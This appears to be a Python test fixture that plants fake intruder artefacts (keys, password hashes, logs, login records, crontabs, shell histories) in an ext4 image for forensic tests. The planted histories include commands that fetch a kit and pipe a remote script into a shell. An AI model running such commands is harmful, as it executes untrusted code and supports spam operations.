"""Operator artefacts planted on a server tree, made by the real tools where there are any.

Keys come from `ssh-keygen`, wtmp/btmp from `utmpdump -r` (util-linux writes the binary
records from a text dump), password hashes from `openssl passwd` (md5crypt, sha256crypt,
sha512crypt) and libxcrypt through Python's crypt module (yescrypt, bcrypt); log lines are
in sshd's, sudo's and su's own formats. Every planted fact is returned in a `Plants` record
so tests compare the tables with what was planted. No tests here.
"""
from __future__ import annotations

import gzip
import struct
import subprocess
import warnings
from dataclasses import dataclass, field
from pathlib import Path

from tests import imaging

# 2026-12-05T12:00:00Z: the mtime given to the logs (the year of their syslog lines is inferred from it).
LOG_MTIME = 1_796_472_000


def run(*argv: str, stdin: bytes | None = None) -> bytes:
    proc = subprocess.run([imaging.tool(argv[0]), *argv[1:]], input=stdin, capture_output=True, timeout=120,
                          env={"LC_ALL": "C", "TZ": "UTC", "PATH": "/usr/bin:/bin:/usr/sbin:/sbin"})
    if proc.returncode != 0:
        raise imaging.ImagingError(f"{argv[0]} failed: {proc.stderr.decode(errors='replace').strip()}")
    return proc.stdout


def openssl_hash(scheme: str, password: str, salt: str) -> str:
    return run("openssl", "passwd", f"-{scheme}", "-salt", salt, password).decode().strip()


def xcrypt_hash(setting: str, password: str) -> str:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        import crypt  # libxcrypt: the library that writes /etc/shadow on Debian

    return crypt.crypt(password, setting)


@dataclass(frozen=True)
class Key:
    path: Path  # private key file
    fingerprint: str  # from `ssh-keygen -l -E sha256`
    bits: int
    key_type: str  # as ssh-keygen prints it: ED25519, RSA, ECDSA
    comment: str
    public_line: str


def make_key(workdir: Path, name: str, key_type: str, comment: str, passphrase: str = "",
             bits: int | None = None, pem: bool | str = False) -> Key:
    path = workdir / name
    argv = ["ssh-keygen", "-q", "-t", key_type, "-N", passphrase, "-C", comment, "-f", str(path)]
    if bits:
        argv += ["-b", str(bits)]
    if pem:  # True: PEM; or the -m format name ("PKCS8")
        argv += ["-m", "PEM" if pem is True else pem]
    run(*argv)
    out = run("ssh-keygen", "-l", "-E", "sha256", "-f", str(path) + ".pub").decode().split()
    # "256 SHA256:... comment (ED25519)"
    return Key(path, out[1], int(out[0]), out[-1].strip("()"), comment, (Path(str(path) + ".pub")).read_text().strip())


# utmpdump's text form: [type] [pid] [id] [user] [line] [host] [addr] [time]
WTMP_DUMP = """\
[2] [00000] [~~  ] [reboot  ] [~           ] [6.1.0-18-amd64      ] [0.0.0.0        ] [2026-11-30T08:00:00,000000+00:00]
[1] [00051] [~~  ] [runlevel] [~           ] [6.1.0-18-amd64      ] [0.0.0.0        ] [2026-11-30T08:00:05,000000+00:00]
[7] [01234] [ts/0] [cosma   ] [pts/0       ] [203.0.113.7         ] [203.0.113.7    ] [2026-12-01T10:00:01,123456+00:00]
[7] [01240] [ts/1] [root    ] [pts/1       ] [2001:db8::5         ] [2001:db8::5    ] [2026-12-01T11:00:00,000000+00:00]
[8] [01234] [ts/0] [        ] [pts/0       ] [                    ] [0.0.0.0        ] [2026-12-01T12:00:00,000000+00:00]
[7] [01300] [ts/2] [bob     ] [pts/2       ] [evil.example.org    ] [0.0.0.0        ] [2026-12-02T01:02:03,000000+00:00]
[8] [01300] [ts/2] [        ] [pts/2       ] [                    ] [0.0.0.0        ] [2026-12-02T02:00:00,000000+00:00]
[1] [00000] [~~  ] [shutdown] [~~          ] [6.1.0-18-amd64      ] [0.0.0.0        ] [2026-12-03T00:00:00,000000+00:00]
"""
# A wtmp deleted kernel-style: its records survive only in unallocated blocks.
DELETED_WTMP_DUMP = """\
[7] [04321] [ts/3] [cosma2k ] [pts/3       ] [198.51.100.23       ] [198.51.100.23  ] [2026-10-10T03:04:05,000000+00:00]
[8] [04321] [ts/3] [        ] [pts/3       ] [                    ] [0.0.0.0        ] [2026-10-10T04:00:00,000000+00:00]
[7] [04400] [ts/4] [root    ] [pts/4       ] [198.51.100.23       ] [198.51.100.23  ] [2026-10-11T05:06:07,000000+00:00]
"""
# A wtmp deleted with plain rm: readable through its inode, and its freed blocks carved too.
RM_WTMP_DUMP = """\
[7] [04500] [ts/5] [mallory ] [pts/5       ] [192.0.2.99          ] [192.0.2.99     ] [2026-09-09T09:09:09,000000+00:00]
"""
BTMP_DUMP = """\
[6] [05000] [    ] [admin   ] [ssh:notty   ] [198.51.100.9        ] [198.51.100.9   ] [2026-12-01T10:05:09,000000+00:00]
[6] [05001] [    ] [root    ] [ssh:notty   ] [198.51.100.9        ] [198.51.100.9   ] [2026-12-01T10:05:11,000000+00:00]
"""


def utmp_bytes(dump: str) -> bytes:
    """Binary utmp records written by util-linux `utmpdump -r` from the text dump."""
    return run("utmpdump", "-r", stdin=dump.encode())


def lastlog_bytes(entries: dict[int, tuple[int, str, str]]) -> bytes:
    """A lastlog file: 292-byte records (int32 time, line[32], host[256]) at uid * 292."""
    top = max(entries)
    out = bytearray(292 * (top + 1))
    for uid, (when, line, host) in entries.items():
        struct.pack_into("<I32s256s", out, uid * 292, when, line.encode(), host.encode())
    return bytes(out)


AUTH_LOG_LINES = [
    # (line, expected (time, user, result, method, ip, port, key_type_or_None, fingerprint placeholder))
    "Dec  1 09:59:01 mx1 CRON[1201]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
    "Dec  1 10:00:01 mx1 sshd[1234]: Accepted publickey for cosma from 203.0.113.7 port 51234 ssh2: ED25519 {FP}",
    "Dec  1 10:00:01 mx1 sshd[1234]: pam_unix(sshd:session): session opened for user cosma(uid=1000) by (uid=0)",
    "Dec  1 10:05:09 mx1 sshd[1300]: Invalid user admin from 198.51.100.9 port 40022",
    "Dec  1 10:05:09 mx1 sshd[1300]: Failed password for invalid user admin from 198.51.100.9 port 40022 ssh2",
    "Dec  1 10:05:11 mx1 sshd[1301]: Failed password for root from 198.51.100.9 port 40024 ssh2",
    "Dec  1 10:07:00 mx1 sudo:    cosma : TTY=pts/0 ; PWD=/home/cosma ; USER=root ; COMMAND=/usr/bin/apt-get install tor",
    "Dec  1 10:08:00 mx1 su[2000]: (to root) cosma on pts/0",
    "Dec  1 10:09:00 mx1 sshd[1234]: pam_unix(sshd:session): session closed for user cosma",
    "Dec  1 10:09:30 mx1 systemd-logind[400]: Removed session 3.",
]
AUTH_LOG_2_LINES = [  # the rotated, gzip'd copy; November, and one line from the year before
    "Nov 20 21:00:00 mx1 sshd[900]: Accepted password for root from 192.0.2.44 port 60001 ssh2",
    "Dec 31 23:59:59 mx1 sshd[901]: Accepted password for root from 192.0.2.44 port 60002 ssh2",
]

BASH_HISTORY = b"""ls -la
#1796380000
cd /tmp && wget http://203.0.113.7/kit.tgz
#1796380060
tar xzf kit.tgz; chmod +x kit/spamd
#1796380120
nohup ./kit/spamd -c mailer.conf &
echo wget is not run here
crontab -l
"""
ZSH_HISTORY = b""": 1796380200:0;torsocks curl -s http://example.onion/ | sh
: 1796380300:3;for h in a b; do\\
  ssh root@$h uptime\\
done
: 1796380400:0;swaks --to victim@example.com --server 127.0.0.1
"""
MYSQL_HISTORY = b"_HiStOrY_V2_\nselect\\040count(*)\\040from\\040addresses;\n"
USER_CRONTAB = b"""# DO NOT EDIT THIS FILE - edit the master and reinstall.
MAILTO=""
*/5 * * * * /home/cosma/kit/spamd --once >/dev/null 2>&1
@reboot /usr/bin/tor -f /home/cosma/.torrc
"""
ETC_CRONTAB = b"""SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
0 3 * * * root /usr/local/bin/rotate-lists.sh
"""
CRON_D = b"# planted\n15 4 * * 1 cosma /home/cosma/kit/harvest --all\n"
TIMER = b"""[Unit]
Description=Send the queue

[Timer]
OnCalendar=*-*-* 02:00:00
Unit=sendq.service

[Install]
WantedBy=timers.target
"""
SERVICE = b"""[Unit]
Description=Send the queue

[Service]
Type=oneshot
User=cosma
ExecStart=/home/cosma/kit/spamd --flush
"""
RC_LOCAL = b"#!/bin/sh -e\n/usr/local/bin/start-proxy --port 1080\nexit 0\n"


@dataclass
class Plants:
    keys: dict[str, Key] = field(default_factory=dict)
    passwords: dict[str, str] = field(default_factory=dict)  # shadow user -> full hash (must never appear)
    auth_log: str = ""
    auth_log_2: str = ""
    wtmp: bytes = b""
    deleted_wtmp: bytes = b""
    rm_wtmp: bytes = b""
    btmp: bytes = b""
    lastlog: bytes = b""


def plant(tree: Path, workdir: Path) -> Plants:
    """Write every artefact under `tree` (a server root); keys are made in `workdir`."""
    workdir.mkdir(parents=True, exist_ok=True)
    p = Plants()
    p.keys["cosma"] = make_key(workdir, "id_ed25519", "ed25519", "cosma2k@mx1")
    p.keys["rsa"] = make_key(workdir, "id_rsa", "rsa", "root@c2-panel", passphrase="secret-pass", bits=3072)
    p.keys["host"] = make_key(workdir, "ssh_host_ecdsa_key", "ecdsa", "root@mx1", bits=256)
    p.keys["pem"] = make_key(workdir, "legacy_rsa", "rsa", "old@mx1", passphrase="secret-pass", bits=2048, pem=True)
    cosma, rsa = p.keys["cosma"], p.keys["rsa"]

    p.passwords = {
        "root": openssl_hash("6", "rootpw-1", "Rs4ltRs4lt"),
        "cosma": xcrypt_hash("$y$j9T$7f/bLCX8Ht1yExbDdH0Gq.$", "hunter22"),
        "bob": "!" + openssl_hash("1", "bobpw", "b0bsalt"),
        "mailer": openssl_hash("5", "mailerpw", "m4il3r"),
        "old": xcrypt_hash("$2b$05$abcdefghijklmnopqrstuu", "oldpw"),
    }
    etc = tree / "etc"
    w = lambda rel, data: imaging.add_file(tree, rel.encode(), data if isinstance(data, bytes) else data.encode())
    w("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
      "cosma:x:1000:1000:Cosma,,,:/home/cosma:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/sh\n"
      "mailer:x:1002:1002::/var/mail:/usr/sbin/nologin\nold:x:1003:1003::/home/old:/bin/bash\n")
    w("etc/shadow", f"root:{p.passwords['root']}:20420:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n"
      f"cosma:{p.passwords['cosma']}:20423:0:99999:7:::\nbob:{p.passwords['bob']}:20000:0:99999:7:::\n"
      f"mailer:{p.passwords['mailer']}:20001::::::\nold:{p.passwords['old']}:19999:0:99999:7:::\nnopw::20002:0:99999:7:::\n")
    w("etc/group", "root:x:0:\nsudo:x:27:cosma,bob\ncosma:x:1000:\n")
    w("etc/gshadow", "root:*::\nsudo:!::cosma,bob\ncosma:!::\n")

    p.auth_log = "\n".join(AUTH_LOG_LINES).replace("{FP}", cosma.fingerprint) + "\n"
    p.auth_log_2 = "\n".join(AUTH_LOG_2_LINES) + "\n"
    w("var/log/auth.log", p.auth_log)
    w("var/log/auth.log.2.gz", gzip.compress(p.auth_log_2.encode(), mtime=0))
    p.wtmp, p.btmp = utmp_bytes(WTMP_DUMP), utmp_bytes(BTMP_DUMP)
    p.deleted_wtmp = utmp_bytes(DELETED_WTMP_DUMP)
    w("var/log/wtmp", p.wtmp)
    w("var/log/btmp", p.btmp)
    w("var/log/wtmp.1", p.deleted_wtmp)  # deleted kernel-style by the test
    p.rm_wtmp = utmp_bytes(RM_WTMP_DUMP)
    w("var/log/wtmp.2", p.rm_wtmp)  # deleted with plain rm by the test
    p.lastlog = lastlog_bytes({0: (1_796_300_000, "pts/1", "2001:db8::5"), 1000: (1_796_320_000, "pts/0", "203.0.113.7")})
    w("var/log/lastlog", p.lastlog)

    w("home/cosma/.bash_history", BASH_HISTORY)
    w("root/.zsh_history", ZSH_HISTORY)
    w("root/.mysql_history", MYSQL_HISTORY)
    w("root/.ssh/authorized_keys",
      f'from="203.0.113.0/24",no-pty {cosma.public_line}\n# old key\n{rsa.public_line}\n')
    host_key = p.keys["host"].public_line.rsplit(" ", 1)[0]
    hashed = workdir / "known_hosts_hashed"
    hashed.write_text(f"relay.example.org {host_key}\n")
    run("ssh-keygen", "-H", "-f", str(hashed))  # ssh-keygen hashes the host names in place
    w("home/cosma/.ssh/known_hosts", f"c2.example.net,203.0.113.7 {host_key}\n" + hashed.read_text())
    w("home/cosma/.ssh/id_ed25519", cosma.path.read_bytes())
    w("home/cosma/.ssh/id_ed25519.pub", cosma.public_line + "\n")
    w("root/.ssh/id_rsa", rsa.path.read_bytes())
    w("root/.ssh/legacy_rsa", p.keys["pem"].path.read_bytes())
    w("etc/ssh/ssh_host_ecdsa_key.pub", p.keys["host"].public_line + "\n")
    w("etc/crontab", ETC_CRONTAB)
    w("etc/cron.d/harvest", CRON_D)
    w("var/spool/cron/crontabs/cosma", USER_CRONTAB)
    w("etc/systemd/system/sendq.timer", TIMER)
    w("etc/systemd/system/sendq.service", SERVICE)
    w("etc/rc.local", RC_LOCAL)
    return p


def set_ext4_mtime(image: Path, path: str, epoch: int) -> None:
    """Give one file of an ext image an mtime (debugfs `sif`), as a log's last write would."""
    inode = imaging.ext4_inode(image, path)
    imaging._run(["debugfs", "-w", "-f", "-", image], env=imaging._e2_env(),
                 stdin=f"sif <{inode}> mtime @{epoch}\n".encode())


def build_image(root: Path) -> tuple[Path, Plants]:
    """An ext4 image of a server holding every plant; /var/log/wtmp.1 deleted kernel-style
    (its records only in unallocated blocks); the logs' mtimes set to LOG_MTIME."""
    tree = root / "tree"
    plants = plant(tree, root / "keys")
    image = imaging.ext4_from_tree(tree, root / "operator.ext4.raw", 24)
    for path in ("/var/log/auth.log", "/var/log/auth.log.2.gz"):
        set_ext4_mtime(image, path, LOG_MTIME)
    imaging.delete_in_ext4(image, "/var/log/wtmp.1", wipe_extents=True)
    imaging.delete_in_ext4(image, "/var/log/wtmp.2")
    return image, plants
